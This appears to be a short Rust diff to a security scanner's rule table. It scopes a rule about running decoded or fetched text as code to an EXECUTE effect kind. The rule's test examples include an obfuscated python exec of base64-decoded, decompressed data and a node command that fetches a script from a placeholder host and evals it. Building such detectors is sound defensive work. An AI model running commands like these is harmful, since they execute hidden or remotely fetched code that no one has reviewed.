@@ -3,7 +3,7 @@
 
 use super::{Rule, Shelf, When};
 use crate::{
-    effect::{Effect, EffectKind},
+    effect::{Effect, EffectKind, Kinds},
     finding::{Category, Confidence},
     risk::Severity,
     text::Taint,
@@ -22,7 +22,7 @@ static RULES: &[Rule] = &[
         message: "text that was decoded, received or computed is run as code",
         remedy: "write the code where it can be read",
         reversible: false,
-        when: When::Effect(computed),
+        when: When::Effect(Kinds::EXECUTE, computed),
         fires: &[
             "python3 -c 'exec(zlib.decompress(base64.b64decode(blob)))'",
             "node -e 'fetch(\"https://x.example/a.js\").then(r => r.text()).then(t => eval(t))'",
